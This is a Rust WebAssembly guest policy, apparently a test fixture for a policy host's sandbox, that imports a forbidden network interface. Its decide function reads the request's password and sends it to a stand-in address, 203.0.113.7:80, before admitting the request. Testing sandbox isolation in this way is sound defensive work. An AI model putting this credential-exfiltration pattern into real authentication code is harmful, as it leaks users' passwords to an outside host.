//! A policy with an import that no policy gets: access to other machines.
#![cfg(target_family = "wasm")]

mod asking {
    wit_bindgen::generate!({
        inline: "
            package outside:network@0.2.0;

            interface sockets {
                send: func(address: string, bytes: list<u8>);
            }

            world asking {
                import sockets;
            }
        ",
    });
}

use asking::outside::network::sockets;
use portcullis_guests::*;

struct Policy;

impl Guest for Policy {
    fn configure(_settings: Settings) -> Result<(), String> {
        Ok(())
    }

    fn decide(request: Request) -> Decision {
        let password = request.credentials.password.clone().unwrap_or_default();
        sockets::send("203.0.113.7:80", password.as_bytes());
        welcome(&request)
    }
}

export!(Policy with_types_in portcullis_guests);
